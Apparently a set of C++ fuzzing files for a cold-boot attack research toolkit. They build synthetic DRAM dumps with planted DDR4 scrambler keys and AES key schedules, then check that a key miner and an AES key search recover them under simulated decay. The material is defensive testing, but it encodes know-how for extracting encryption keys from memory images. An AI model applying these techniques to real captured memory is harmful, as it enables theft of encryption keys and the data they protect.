            size_t ref_weight = scalar.hamming_weight(a, n);
            size_t ref_masked = scalar.masked_mismatch(a, b, mask, n);
            bool ref_const = scalar.is_constant(a, n);
            size_t limit = rng.below(8 * n + 2);
            size_t ref_bounded = ref_dist <= limit ? ref_dist
                                                   : limit + 1;
            std::vector<uint8_t> ref_into(n);
            scalar.xor_into(ref_into.data(), a, b, n);

            res.feature(100 + std::min<unsigned>(
                                  static_cast<unsigned>(n / 64), 16));

            for (auto be : backends) {
                const auto &k = simd::kernels(be);
                const std::string tag =
                    std::string(simd::backendName(be)) + " n=" +
                    std::to_string(n) + " off_a=" +
                    std::to_string(off_a);
                if (k.hamming_distance(a, b, n) != ref_dist) {
                    res.fail("hamming_distance diverges: " + tag);
                    return res;
                }
                if (k.hamming_weight(a, n) != ref_weight) {
                    res.fail("hamming_weight diverges: " + tag);
                    return res;
                }
                if (k.masked_mismatch(a, b, mask, n) != ref_masked) {
                    res.fail("masked_mismatch diverges: " + tag);
                    return res;
                }
                if (k.is_constant(a, n) != ref_const) {
                    res.fail("is_constant diverges: " + tag);
                    return res;
                }
                if (k.hamming_bounded(a, b, n, limit) != ref_bounded) {
                    res.fail("hamming_bounded not min(d, limit+1): " +
                             tag + " limit=" + std::to_string(limit));
                    return res;
                }
                std::vector<uint8_t> into(n);
                k.xor_into(into.data(), a, b, n);
                if (std::memcmp(into.data(), ref_into.data(), n) !=
                    0) {
                    res.fail("xor_into diverges: " + tag);
                    return res;
                }
                std::vector<uint8_t> x(a, a + n), y(a, a + n);
                scalar.xor_bytes(x.data(), b, n);
                k.xor_bytes(y.data(), b, n);
                if (std::memcmp(x.data(), y.data(), n) != 0) {
                    res.fail("xor_bytes diverges: " + tag);
                    return res;
                }
            }

            // 64-byte-block kernels on a dedicated exact-size block.
            auto block = std::make_unique<uint8_t[]>(64);
            auto key = std::make_unique<uint8_t[]>(64);
            rng.fill({block.get(), 64});
            rng.fill({key.get(), 64});
            unsigned ref_litmus =
                scalar.scrambler_litmus_score64(block.get());
            size_t rep_n = rng.below(300);
            std::vector<uint8_t> rep0(rep_n);
            rng.fill(rep0);
            std::vector<uint8_t> ref_rep(rep0);
            scalar.xor_repeat_key64(ref_rep.data(), key.get(), rep_n);
            std::vector<uint8_t> ground(rep_n);
            rng.fill(ground);
            std::vector<uint8_t> ref_decay(rep0);
            uint64_t ref_flips = scalar.decay_apply_ground(
                ref_decay.data(), ground.data(), rep_n);
            for (auto be : backends) {
                const auto &k = simd::kernels(be);
                const char *bn = simd::backendName(be);
                if (k.scrambler_litmus_score64(block.get()) !=
                    ref_litmus) {
                    res.fail(std::string("litmus score diverges: ") +
                             bn);
                    return res;
                }
                std::vector<uint8_t> rep(rep0);
                k.xor_repeat_key64(rep.data(), key.get(), rep_n);
                if (rep != ref_rep) {
                    res.fail(std::string(
                                 "xor_repeat_key64 diverges: ") +
                             bn + " n=" + std::to_string(rep_n));
                    return res;
                }
                std::vector<uint8_t> dec(rep0);
                uint64_t flips = k.decay_apply_ground(
                    dec.data(), ground.data(), rep_n);
                if (flips != ref_flips || dec != ref_decay) {
                    res.fail(std::string(
                                 "decay_apply_ground diverges: ") +
                             bn + " n=" + std::to_string(rep_n));
                    return res;
                }
            }
        }
        return res;
    }
};

const SimdVsScalarOracle simd_vs_scalar_oracle;

} // anonymous namespace

void
registerSimdOracles(std::vector<const Oracle *> &out)
{
    out.push_back(&simd_vs_scalar_oracle);
}

} // namespace coldboot::fuzz
