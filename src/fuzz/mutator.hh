/**
 * @file
 * Structured mutators - the adversarial-input half of the fuzzing
 * subsystem.
 *
 * Three families (DESIGN.md §10 gives the full taxonomy):
 *
 *  - Byte-level mutations over in-memory buffers (bit flips, byte
 *    stomps, 64-byte line duplication/swap, cross-region splices),
 *    optionally steered away from protected regions so an oracle's
 *    planted ground truth survives with a known error budget;
 *
 *  - Decay mutation: charge decay at a *target visible-flip
 *    fraction*, routed through the real dram::DecayModel (ground
 *    state stripes and all) by inverting the retention curve for the
 *    unpowered interval that produces the requested fraction;
 *
 *  - File-shape mutations for on-disk dumps (truncation to a
 *    misaligned size, zero-length, non-64-multiple extension, tail
 *    bit rot) used to probe the DumpSource validation and the CLI
 *    error paths.
 */

#ifndef COLDBOOT_FUZZ_MUTATOR_HH
#define COLDBOOT_FUZZ_MUTATOR_HH

#include <cstdint>
#include <span>
#include <vector>

#include "fuzz/fuzz_rng.hh"

namespace coldboot::fuzz
{

/** Byte-level mutation kinds. */
enum class ByteMutation
{
    /** Flip one random bit. */
    BitFlip,
    /** Overwrite one byte with a random value. */
    ByteSet,
    /** Copy one 64-byte line over another. */
    LineDuplicate,
    /** Swap two 64-byte lines. */
    LineSwap,
    /** Copy a random short run between two offsets. */
    Splice,
};

/** Count of ByteMutation kinds (for feature bucketing). */
constexpr unsigned byteMutationKinds = 5;

/** A half-open byte range [begin, end) to protect from mutation. */
struct ProtectedRegion
{
    uint64_t begin = 0;
    uint64_t end = 0;
};

/** Per-kind application counts of one mutateBytes() run. */
struct MutationStats
{
    uint32_t applied[byteMutationKinds] = {};
    /** Mutations skipped because they hit a protected region. */
    uint32_t skipped = 0;
};

/**
 * Apply @p count random byte-level mutations to @p data, drawing
 * every choice from @p rng. Mutations that would touch a protected
 * region are skipped (counted, not retried - the mutation budget is
 * the determinism unit). Empty input is a no-op.
 */
void mutateBytes(std::span<uint8_t> data, CaseRng &rng, uint32_t count,
                 std::span<const ProtectedRegion> protect = {},
                 MutationStats *stats = nullptr);

/**
 * Decay @p data toward its ground state with an expected visible-flip
 * fraction of @p fraction (clamped to [0, 0.5]), using the real
 * dram::DecayModel with ground-state stripes seeded by @p seed.
 *
 * @return The number of bits that visibly flipped.
 */
uint64_t applyTargetDecay(std::span<uint8_t> data, double fraction,
                          uint64_t seed);

/** File-shape mutation kinds for on-disk dump probing. */
enum class FileShapeMutation
{
    /** Keep the file a valid nonzero 64-multiple (control case). */
    KeepValid,
    /** Truncate to a non-64-multiple size. */
    TruncateMisaligned,
    /** Truncate to zero bytes. */
    TruncateEmpty,
    /** Extend by a non-64-multiple tail. */
    ExtendMisaligned,
    /** Keep the size valid but rot bits near the tail. */
    TailBitRot,
};

/** Count of FileShapeMutation kinds. */
constexpr unsigned fileShapeMutationKinds = 5;

/** Draw a file-shape mutation (uniform across kinds). */
FileShapeMutation pickFileShapeMutation(CaseRng &rng);

/**
 * Apply a file-shape mutation to an in-memory file image.
 *
 * @return True when the resulting size is still a valid DumpSource
 *         size (nonzero multiple of 64), i.e. opening it must
 *         succeed; false when open must fail with a clean error.
 */
bool applyFileShapeMutation(std::vector<uint8_t> &bytes,
                            FileShapeMutation kind, CaseRng &rng);

} // namespace coldboot::fuzz

#endif // COLDBOOT_FUZZ_MUTATOR_HH
