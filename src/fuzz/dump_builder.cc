#include "fuzz/dump_builder.hh"

#include <algorithm>

#include "common/logging.hh"
#include "memctrl/scrambler.hh"

namespace coldboot::fuzz
{

namespace
{

/**
 * Claim @p run free consecutive lines, preferring a random draw and
 * falling back to a linear scan (deterministic either way).
 */
uint64_t
claimLines(std::vector<bool> &used, CaseRng &rng, uint64_t run)
{
    const uint64_t lines = used.size();
    cb_assert(run >= 1 && run <= lines, "claimLines: bad run %llu",
              static_cast<unsigned long long>(run));
    auto free_at = [&](uint64_t start) {
        if (start + run > lines)
            return false;
        for (uint64_t i = 0; i < run; ++i)
            if (used[start + i])
                return false;
        return true;
    };
    uint64_t start = rng.below(lines - run + 1);
    for (unsigned attempt = 0; attempt < 32 && !free_at(start);
         ++attempt)
        start = rng.below(lines - run + 1);
    if (!free_at(start)) {
        start = lines; // sentinel: scan
        for (uint64_t s = 0; s + run <= lines; ++s) {
            if (free_at(s)) {
                start = s;
                break;
            }
        }
        cb_assert(start < lines, "claimLines: dump too crowded");
    }
    for (uint64_t i = 0; i < run; ++i)
        used[start + i] = true;
    return start;
}

} // anonymous namespace

FuzzDump
buildFuzzDump(CaseRng &rng, const FuzzDumpSpec &spec)
{
    cb_assert(spec.bytes >= 64 && spec.bytes % 64 == 0,
              "buildFuzzDump: size must be a nonzero 64-multiple");
    const uint64_t lines = spec.bytes / 64;

    FuzzDump out;
    out.bytes.resize(spec.bytes);
    out.scrambler_seed = rng.next();
    memctrl::Ddr4Scrambler scrambler(out.scrambler_seed, 0);

    // Background: random lines (indistinguishable from scrambled
    // traffic) with a sprinkling of scrambled zero lines - the
    // mechanism that makes real dumps leak their scrambler keys. At
    // dump sizes below the 256 KiB key-pool wrap these leak *single*
    // copies, i.e. realistic sub-threshold noise for the miner.
    rng.fill(out.bytes);
    for (uint64_t line = 0; line < lines; ++line) {
        if (rng.chance(spec.zero_line_fraction))
            scrambler.lineKey(line * 64, &out.bytes[line * 64]);
    }

    std::vector<bool> used(lines, false);

    // The schedule first: it needs a contiguous run of lines.
    if (spec.plant_schedule) {
        PlantedSchedule sched;
        sched.key_size = spec.schedule_size;
        sched.master.resize(static_cast<size_t>(spec.schedule_size));
        rng.fill(sched.master);
        auto schedule = crypto::aesExpandKey(sched.master);
        uint64_t run = (schedule.size() + 63) / 64;
        uint64_t start = claimLines(used, rng, run);
        sched.offset = start * 64;

        unsigned key_index =
            static_cast<unsigned>(rng.below(4096));
        scrambler.poolKey(key_index, sched.scramble_key.data());

        // Schedule plaintext, tail-padded with random plaintext,
        // XOR-ed line by line with the one scrambler key.
        std::vector<uint8_t> plain(run * 64);
        rng.fill(plain);
        std::copy(schedule.begin(), schedule.end(), plain.begin());
        for (uint64_t i = 0; i < plain.size(); ++i)
            out.bytes[sched.offset + i] =
                plain[i] ^ sched.scramble_key[i % 64];
        out.planted_regions.push_back(
            {sched.offset, sched.offset + run * 64});

        // Plant the scrambling key itself so the mining -> search
        // hand-off can work end to end.
        PlantedKey key;
        key.pool_index = key_index;
        key.key = sched.scramble_key;
        for (unsigned c = 0; c < std::max(2u, spec.copies_per_key);
             ++c) {
            uint64_t at = claimLines(used, rng, 1) * 64;
            std::copy(key.key.begin(), key.key.end(),
                      &out.bytes[at]);
            key.offsets.push_back(at);
            out.planted_regions.push_back({at, at + 64});
        }
        out.keys.push_back(std::move(key));
        out.schedule = std::move(sched);
    }

    // Planted scrambler keys: raw pool-key bytes, exactly what a
    // zero-filled 64-byte block stores in scrambled DRAM.
    for (unsigned k = 0; k < spec.planted_keys; ++k) {
        PlantedKey key;
        key.pool_index = static_cast<unsigned>(rng.below(4096));
        scrambler.poolKey(key.pool_index, key.key.data());
        for (unsigned c = 0; c < spec.copies_per_key; ++c) {
            uint64_t at = claimLines(used, rng, 1) * 64;
            std::copy(key.key.begin(), key.key.end(),
                      &out.bytes[at]);
            key.offsets.push_back(at);
            out.planted_regions.push_back({at, at + 64});
        }
        out.keys.push_back(std::move(key));
    }

    // Decay last, over everything - planted artifacts included.
    if (spec.decay_fraction > 0.0)
        out.bits_decayed = applyTargetDecay(
            out.bytes, spec.decay_fraction, rng.next());

    return out;
}

} // namespace coldboot::fuzz
