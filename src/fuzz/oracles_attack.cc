/**
 * @file
 * Attack-pipeline oracles: the miner and the AES search checked
 * against dumps with *known* planted ground truth, plus the
 * worker-count-independence fingerprint over the whole pipeline.
 *
 * Statistical care: at nonzero decay the attack is allowed to miss
 * (the paper's own success curves drop below 100% past ~2% decay),
 * so completeness is asserted unconditionally only at zero decay and
 * recorded as a coverage feature otherwise; soundness (anything
 * reported must match the planted truth) is asserted always.
 */

#include <algorithm>
#include <array>
#include <cstring>
#include <string>

#include "attack/aes_search.hh"
#include "attack/key_miner.hh"
#include "common/bits.hh"
#include "crypto/sha256.hh"
#include "exec/dump_io.hh"
#include "fuzz/dump_builder.hh"
#include "fuzz/fuzz_rng.hh"
#include "fuzz/mutator.hh"
#include "fuzz/oracles.hh"
#include "memctrl/scrambler.hh"

namespace coldboot::fuzz
{

namespace
{

using attack::MinedKey;
using attack::MinerParams;
using attack::SearchParams;

/**
 * miner-planted-keys: KeyMiner recovers keys planted into a
 * synthesized dump across a decay sweep. Soundness: every reported
 * key is (Hamming-)close to a real pool key of the dump's scrambler.
 * Completeness: at zero decay every planted key is recovered exactly;
 * at low decay within the clustering distance.
 */
class MinerPlantedKeysOracle final : public Oracle
{
  public:
    const char *name() const override { return "miner-planted-keys"; }

    const char *
    description() const override
    {
        return "KeyMiner recovers planted scrambler keys through a "
               "decay sweep; everything it reports is a real key";
    }

    unsigned smokeStride() const override { return 2; }

    OracleResult
    run(const FuzzCaseParams &params) const override
    {
        OracleResult res;
        CaseRng rng(params.seed);

        FuzzDumpSpec spec;
        spec.bytes = static_cast<uint64_t>(64 * 1024)
                     << params.scale;
        spec.planted_keys =
            2 + static_cast<unsigned>(rng.below(4));
        spec.copies_per_key =
            2 + static_cast<unsigned>(rng.below(3));
        spec.decay_fraction =
            rng.pick({0.0, 0.0, 0.005, 0.01, 0.02});
        FuzzDump dump = buildFuzzDump(rng, spec);
        res.feature(static_cast<uint32_t>(
            spec.decay_fraction * 1000));

        // Adversarial background noise, steered off the plants.
        mutateBytes(dump.bytes, rng, params.energy * 8,
                    dump.planted_regions);

        MinerParams mp;
        mp.threads = 1; // cases already run in parallel
        attack::MinerStats stats;
        exec::MemoryDumpSource source(dump.bytes);
        auto mined = attack::mineScramblerKeys(source, mp, &stats);

        res.feature(100 + static_cast<uint32_t>(
                              std::min<size_t>(mined.size(), 32)));
        if (stats.blocks_scanned != spec.bytes / 64) {
            res.fail("miner scanned " +
                     std::to_string(stats.blocks_scanned) +
                     " blocks of " +
                     std::to_string(spec.bytes / 64));
            return res;
        }

        // Soundness: every mined key must match some pool key of the
        // dump's scrambler within the clustering distance - decay
        // and line-duplicating mutations can only replicate real
        // keys, never mint a new litmus-passing cluster.
        memctrl::Ddr4Scrambler scrambler(dump.scrambler_seed, 0);
        for (const auto &m : mined) {
            unsigned best = 513;
            std::array<uint8_t, 64> pool_key;
            for (unsigned idx = 0; idx < 4096 && best > 0; ++idx) {
                scrambler.poolKey(idx, pool_key.data());
                unsigned d = static_cast<unsigned>(hammingDistance(
                    std::span<const uint8_t>(m.key),
                    std::span<const uint8_t>(pool_key)));
                best = std::min(best, d);
            }
            if (best > mp.cluster_distance) {
                res.fail("mined key at offset " +
                         std::to_string(m.first_offset) +
                         " matches no real pool key (distance " +
                         std::to_string(best) + ")");
                return res;
            }
        }

        // Completeness over the planted keys.
        for (const auto &planted : dump.keys) {
            if (planted.offsets.size() < mp.min_occurrences)
                continue;
            unsigned best = 513;
            for (const auto &m : mined)
                best = std::min(
                    best, static_cast<unsigned>(hammingDistance(
                              std::span<const uint8_t>(m.key),
                              std::span<const uint8_t>(
                                  planted.key))));
            if (spec.decay_fraction == 0.0 && best != 0) {
                res.fail("planted key (pool index " +
                         std::to_string(planted.pool_index) +
                         ") not mined exactly at zero decay");
                return res;
            }
            if (best <= mp.cluster_distance)
                res.feature(200);
            else if (spec.decay_fraction <= 0.01) {
                res.fail("planted key (pool index " +
                         std::to_string(planted.pool_index) +
                         ") lost at " +
                         std::to_string(spec.decay_fraction) +
                         " decay (best distance " +
                         std::to_string(best) + ")");
                return res;
            } else {
                res.feature(201); // allowed statistical miss
            }
        }
        return res;
    }
};

/**
 * search-planted-schedule: the AES search, fed the true scrambler
 * key among decoys, recovers a planted expanded schedule. Soundness:
 * any recovered key of the planted size equals the planted master
 * and locates its table. Completeness is required at zero decay.
 */
class SearchPlantedScheduleOracle final : public Oracle
{
  public:
    const char *name() const override
    {
        return "search-planted-schedule";
    }

    const char *
    description() const override
    {
        return "AES search recovers a planted key schedule; any "
               "reported master equals the planted one";
    }

    unsigned smokeStride() const override { return 4; }

    OracleResult
    run(const FuzzCaseParams &params) const override
    {
        OracleResult res;
        CaseRng rng(params.seed);

        FuzzDumpSpec spec;
        spec.bytes = static_cast<uint64_t>(64 * 1024)
                     << params.scale;
        spec.planted_keys = 1 + static_cast<unsigned>(rng.below(3));
        spec.plant_schedule = true;
        spec.schedule_size = rng.pick(
            {crypto::AesKeySize::Aes128, crypto::AesKeySize::Aes192,
             crypto::AesKeySize::Aes256});
        spec.decay_fraction = rng.pick({0.0, 0.0, 0.01, 0.02});
        FuzzDump dump = buildFuzzDump(rng, spec);
        res.feature(crypto::aesNk(spec.schedule_size));
        res.feature(10 + static_cast<uint32_t>(
                             spec.decay_fraction * 1000));

        mutateBytes(dump.bytes, rng, params.energy * 4,
                    dump.planted_regions);

        // Candidates: the true scramble key plus decoy pool keys -
        // the search must not be confused by wrong keys.
        memctrl::Ddr4Scrambler scrambler(dump.scrambler_seed, 0);
        std::vector<MinedKey> candidates;
        candidates.emplace_back(dump.schedule->scramble_key, 3, 0);
        unsigned decoys = static_cast<unsigned>(rng.below(3));
        for (unsigned d = 0; d < decoys; ++d) {
            std::array<uint8_t, 64> key;
            scrambler.poolKey(static_cast<unsigned>(rng.below(4096)),
                              key.data());
            candidates.emplace_back(key, 2, 64);
        }
        res.feature(20 + decoys);

        SearchParams sp;
        sp.key_size = spec.schedule_size;
        sp.threads = 1; // cases already run in parallel
        attack::SearchStats stats;
        exec::MemoryDumpSource source(dump.bytes);
        auto found =
            attack::searchAesKeyTables(source, candidates, sp,
                                       &stats);

        bool recovered = false;
        for (const auto &k : found) {
            if (k.key_size != spec.schedule_size)
                continue;
            if (!std::equal(k.master.begin(), k.master.end(),
                            dump.schedule->master.begin(),
                            dump.schedule->master.end())) {
                res.fail("recovered master differs from the planted "
                         "key");
                return res;
            }
            if (k.table_offset != dump.schedule->offset) {
                res.fail("recovered table offset " +
                         std::to_string(k.table_offset) +
                         " != planted " +
                         std::to_string(dump.schedule->offset));
                return res;
            }
            recovered = true;
        }
        if (!recovered) {
            if (spec.decay_fraction == 0.0) {
                res.fail("planted schedule not recovered at zero "
                         "decay");
                return res;
            }
            res.feature(31); // allowed statistical miss under decay
        } else {
            res.feature(30);
        }
        return res;
    }
};

/**
 * parallel-fingerprint: the miner and the search produce
 * byte-identical output at any worker count - serial in-line vs a
 * dedicated pool of k workers - on the same adversarial dump. This
 * is the fuzzing half of the DESIGN.md §9 determinism contract.
 */
class ParallelFingerprintOracle final : public Oracle
{
  public:
    const char *name() const override
    {
        return "parallel-fingerprint";
    }

    const char *
    description() const override
    {
        return "mine+search results are byte-identical between a "
               "serial run and a dedicated k-worker pool";
    }

    unsigned smokeStride() const override { return 8; }

    OracleResult
    run(const FuzzCaseParams &params) const override
    {
        OracleResult res;
        CaseRng rng(params.seed);

        FuzzDumpSpec spec;
        // Several scan chunks (the grain is 1 MiB) so the pool has
        // real work to hand out in racy order.
        spec.bytes = static_cast<uint64_t>(2 * 1024 * 1024)
                     << params.scale;
        spec.planted_keys = 3;
        spec.plant_schedule = true;
        spec.decay_fraction = rng.pick({0.0, 0.01});
        FuzzDump dump = buildFuzzDump(rng, spec);
        mutateBytes(dump.bytes, rng, params.energy * 8,
                    dump.planted_regions);

        const unsigned workers =
            2 + static_cast<unsigned>(rng.below(3));
        res.feature(workers);

        auto fingerprint = [&](unsigned threads) {
            crypto::Sha256 hash;
            auto absorb = [&](const void *p, size_t n) {
                hash.update({static_cast<const uint8_t *>(p), n});
            };

            exec::MemoryDumpSource source(dump.bytes);
            MinerParams mp;
            mp.threads = threads;
            auto mined = attack::mineScramblerKeys(source, mp);
            for (const auto &m : mined) {
                absorb(m.key.data(), m.key.size());
                uint64_t occ = m.occurrences;
                absorb(&occ, sizeof(occ));
                absorb(&m.first_offset, sizeof(m.first_offset));
            }

            SearchParams sp;
            sp.threads = threads;
            auto found =
                attack::searchAesKeyTables(source, mined, sp);
            for (const auto &k : found) {
                absorb(k.master.data(), k.master.size());
                absorb(&k.table_offset, sizeof(k.table_offset));
                uint64_t blocks = k.verified_blocks;
                absorb(&blocks, sizeof(blocks));
                unsigned errs = k.total_bit_errors;
                absorb(&errs, sizeof(errs));
            }
            return hash.finish();
        };

        auto serial = fingerprint(1);
        auto pooled = fingerprint(workers);
        if (serial != pooled) {
            res.fail("mine+search fingerprint differs between "
                     "serial and " +
                     std::to_string(workers) + "-worker runs");
            return res;
        }
        res.feature(16);
        return res;
    }
};

const MinerPlantedKeysOracle miner_oracle;
const SearchPlantedScheduleOracle search_oracle;
const ParallelFingerprintOracle fingerprint_oracle;

} // anonymous namespace

void
registerAttackOracles(std::vector<const Oracle *> &out)
{
    out.push_back(&miner_oracle);
    out.push_back(&search_oracle);
    out.push_back(&fingerprint_oracle);
}

} // namespace coldboot::fuzz
