#include "fuzz/mutator.hh"

#include <algorithm>
#include <cmath>

#include "common/logging.hh"
#include "dram/decay_model.hh"

namespace coldboot::fuzz
{

namespace
{

/** Whether [begin, end) intersects any protected region. */
bool
touchesProtected(uint64_t begin, uint64_t end,
                 std::span<const ProtectedRegion> protect)
{
    for (const auto &r : protect)
        if (begin < r.end && r.begin < end)
            return true;
    return false;
}

} // anonymous namespace

void
mutateBytes(std::span<uint8_t> data, CaseRng &rng, uint32_t count,
            std::span<const ProtectedRegion> protect,
            MutationStats *stats)
{
    if (data.empty())
        return;
    const uint64_t size = data.size();
    const uint64_t lines = size / 64;
    for (uint32_t m = 0; m < count; ++m) {
        auto kind = static_cast<ByteMutation>(
            rng.below(byteMutationKinds));
        // Line-granular kinds need at least two lines to act on;
        // degrade them to byte stomps on tiny inputs so the energy
        // budget still does work.
        if (lines < 2 && (kind == ByteMutation::LineDuplicate ||
                          kind == ByteMutation::LineSwap))
            kind = ByteMutation::ByteSet;

        switch (kind) {
          case ByteMutation::BitFlip: {
            uint64_t off = rng.below(size);
            unsigned bit = static_cast<unsigned>(rng.below(8));
            if (touchesProtected(off, off + 1, protect)) {
                if (stats)
                    ++stats->skipped;
                break;
            }
            data[off] ^= static_cast<uint8_t>(1u << bit);
            if (stats)
                ++stats->applied[0];
            break;
          }
          case ByteMutation::ByteSet: {
            uint64_t off = rng.below(size);
            uint8_t value = static_cast<uint8_t>(rng.below(256));
            if (touchesProtected(off, off + 1, protect)) {
                if (stats)
                    ++stats->skipped;
                break;
            }
            data[off] = value;
            if (stats)
                ++stats->applied[1];
            break;
          }
          case ByteMutation::LineDuplicate: {
            uint64_t src = rng.below(lines) * 64;
            uint64_t dst = rng.below(lines) * 64;
            if (touchesProtected(dst, dst + 64, protect)) {
                if (stats)
                    ++stats->skipped;
                break;
            }
            std::copy_n(&data[src], 64, &data[dst]);
            if (stats)
                ++stats->applied[2];
            break;
          }
          case ByteMutation::LineSwap: {
            uint64_t a = rng.below(lines) * 64;
            uint64_t b = rng.below(lines) * 64;
            if (touchesProtected(a, a + 64, protect) ||
                touchesProtected(b, b + 64, protect)) {
                if (stats)
                    ++stats->skipped;
                break;
            }
            std::swap_ranges(&data[a], &data[a + 64], &data[b]);
            if (stats)
                ++stats->applied[3];
            break;
          }
          case ByteMutation::Splice: {
            uint64_t len = rng.range(1, std::min<uint64_t>(32, size));
            uint64_t src = rng.below(size - len + 1);
            uint64_t dst = rng.below(size - len + 1);
            if (touchesProtected(dst, dst + len, protect)) {
                if (stats)
                    ++stats->skipped;
                break;
            }
            // memmove semantics: ranges may overlap.
            std::vector<uint8_t> tmp(&data[src], &data[src + len]);
            std::copy(tmp.begin(), tmp.end(), &data[dst]);
            if (stats)
                ++stats->applied[4];
            break;
          }
        }
    }
}

uint64_t
applyTargetDecay(std::span<uint8_t> data, double fraction,
                 uint64_t seed)
{
    fraction = std::clamp(fraction, 0.0, 0.5);
    if (fraction <= 0.0 || data.empty())
        return 0;
    dram::DecayModel model(dram::DecayParams{}, seed);
    // Roughly half of all cells already store their ground value, so
    // a *visible* flip fraction f requires a decayed-cell fraction of
    // 2f. Invert the retention curve for the unpowered interval at a
    // fixed cooled-transfer temperature: f_cells = 1 - exp(-t/tau)
    // => t = -tau * ln(1 - f_cells).
    constexpr double celsius = -25.0;
    double cell_fraction = std::min(2.0 * fraction, 0.999);
    double seconds =
        -model.tau(celsius) * std::log(1.0 - cell_fraction);
    return model.applyDecay(data, seconds, celsius);
}

FileShapeMutation
pickFileShapeMutation(CaseRng &rng)
{
    return static_cast<FileShapeMutation>(
        rng.below(fileShapeMutationKinds));
}

bool
applyFileShapeMutation(std::vector<uint8_t> &bytes,
                       FileShapeMutation kind, CaseRng &rng)
{
    cb_assert(!bytes.empty() && bytes.size() % 64 == 0,
              "file-shape mutation wants a valid dump image");
    switch (kind) {
      case FileShapeMutation::KeepValid:
        return true;
      case FileShapeMutation::TruncateMisaligned: {
        // A size in [1, old) that is not a multiple of 64.
        uint64_t cut = rng.range(1, bytes.size() - 1);
        if (cut % 64 == 0)
            ++cut;
        bytes.resize(std::min<size_t>(cut, bytes.size() - 1));
        return false;
      }
      case FileShapeMutation::TruncateEmpty:
        bytes.clear();
        return false;
      case FileShapeMutation::ExtendMisaligned: {
        uint64_t tail = rng.range(1, 63);
        for (uint64_t i = 0; i < tail; ++i)
            bytes.push_back(static_cast<uint8_t>(rng.below(256)));
        return false;
      }
      case FileShapeMutation::TailBitRot: {
        uint64_t rot = rng.range(1, 64);
        for (uint64_t i = 0; i < rot; ++i) {
            uint64_t off =
                bytes.size() - 1 - rng.below(std::min<uint64_t>(
                                       bytes.size(), 4096));
            bytes[off] ^= static_cast<uint8_t>(
                1u << static_cast<unsigned>(rng.below(8)));
        }
        return true;
      }
    }
    return true;
}

} // namespace coldboot::fuzz
