/**
 * @file
 * Dump-I/O oracle: the three DumpSource backends (mmap, buffered
 * pread, in-memory view) must be observationally identical on any
 * valid dump file, including files produced by the file-shape
 * mutators (tail bit rot and the valid control case). Invalid shapes
 * (zero-length, non-64-multiple) are classified here against the
 * mutator's own contract; their fatal-error *behaviour* is covered by
 * the death tests and the CLI smoke test, since cb_fatal exits the
 * process and cannot be observed in-process.
 */

#include <cstdio>
#include <filesystem>
#include <string>
#include <string_view>

#include "exec/dump_io.hh"
#include "fuzz/fuzz_rng.hh"
#include "fuzz/mutator.hh"
#include "fuzz/oracles.hh"
#include "obs/fsio.hh"

#include <unistd.h>

namespace coldboot::fuzz
{

namespace
{

/** RAII temp file that unlinks on scope exit. */
struct TempFile
{
    std::string path;

    explicit TempFile(uint64_t tag)
    {
        path = (std::filesystem::temp_directory_path() /
                ("coldboot_fuzz_" + std::to_string(getpid()) + "_" +
                 std::to_string(tag) + ".img"))
                   .string();
    }

    ~TempFile() { std::remove(path.c_str()); }
};

class DumpBackendEqualityOracle final : public Oracle
{
  public:
    const char *name() const override
    {
        return "dump-backend-equality";
    }

    const char *
    description() const override
    {
        return "mmap, buffered and memory DumpSource backends are "
               "byte-identical on mutated dump files";
    }

    unsigned smokeStride() const override { return 2; }

    OracleResult
    run(const FuzzCaseParams &params) const override
    {
        OracleResult res;
        CaseRng rng(params.seed);

        const uint64_t bytes =
            static_cast<uint64_t>(16 * 1024) << params.scale;
        std::vector<uint8_t> image(bytes);
        rng.fill(image);
        mutateBytes(image, rng, params.energy);

        FileShapeMutation kind = pickFileShapeMutation(rng);
        bool still_valid = applyFileShapeMutation(image, kind, rng);
        res.feature(static_cast<uint32_t>(kind));

        // The mutator's validity verdict must match the DumpSource
        // size rule it claims to encode.
        bool rule_valid = !image.empty() && image.size() % 64 == 0;
        if (still_valid != rule_valid) {
            res.fail("file-shape mutator misclassified a " +
                     std::to_string(image.size()) +
                     "-byte file as " +
                     (still_valid ? "valid" : "invalid"));
            return res;
        }
        if (!still_valid) {
            // Fatal-path behaviour is exercised out-of-process (death
            // tests, CLI smoke); nothing more to compare here.
            res.feature(100);
            return res;
        }

        TempFile file(params.seed);
        obs::writeFileCreatingDirs(
            file.path,
            std::string_view(
                reinterpret_cast<const char *>(image.data()),
                image.size()),
            "fuzz dump");

        auto mapped =
            exec::openDumpSource(file.path, exec::DumpBackend::Mmap);
        auto buffered = exec::openDumpSource(
            file.path, exec::DumpBackend::Buffered);
        exec::MemoryDumpSource memory(image);

        const exec::DumpSource *sources[] = {mapped.get(),
                                             buffered.get(), &memory};
        for (const exec::DumpSource *s : sources) {
            if (s->size() != image.size() ||
                s->lines() != image.size() / 64) {
                res.fail(std::string(s->backendName()) +
                         " backend reports a wrong size");
                return res;
            }
        }

        // Resident backends expose the whole file contiguously.
        auto whole = mapped->contiguous();
        if (whole.size() != image.size() ||
            !std::equal(whole.begin(), whole.end(), image.begin())) {
            res.fail("mmap contiguous() view differs from the file "
                     "contents");
            return res;
        }
        if (!buffered->contiguous().empty()) {
            res.fail("buffered backend claims a contiguous view");
            return res;
        }

        // Random in-range chunk reads agree byte for byte.
        exec::ChunkBuffer buf_a, buf_b, buf_c;
        const unsigned reads = 8 + params.energy;
        for (unsigned t = 0; t < reads; ++t) {
            uint64_t len = rng.range(1, image.size());
            uint64_t off = rng.below(image.size() - len + 1);
            mapped->prefetch(off, len); // must be a harmless hint
            auto a = mapped->chunk(off, len, buf_a);
            auto b = buffered->chunk(off, len, buf_b);
            auto c = memory.chunk(off, len, buf_c);
            if (a.size() != len || b.size() != len ||
                c.size() != len) {
                res.fail("chunk() returned a wrong length");
                return res;
            }
            if (!std::equal(a.begin(), a.end(), b.begin()) ||
                !std::equal(a.begin(), a.end(), c.begin()) ||
                !std::equal(a.begin(), a.end(),
                            image.begin() +
                                static_cast<ptrdiff_t>(off))) {
                res.fail("backends disagree on chunk [" +
                         std::to_string(off) + ", " +
                         std::to_string(off + len) + ")");
                return res;
            }
            res.feature(8 + static_cast<uint32_t>(
                                len * 4 / image.size()));
        }
        res.feature(101);
        return res;
    }
};

const DumpBackendEqualityOracle io_oracle;

} // anonymous namespace

void
registerIoOracles(std::vector<const Oracle *> &out)
{
    out.push_back(&io_oracle);
}

} // namespace coldboot::fuzz
