#include "fuzz/reducer.hh"

#include <charconv>
#include <vector>

namespace coldboot::fuzz
{

namespace
{

/** `key=value` pull from `rest`; false on mismatch. */
bool
takeField(std::string_view &rest, std::string_view key,
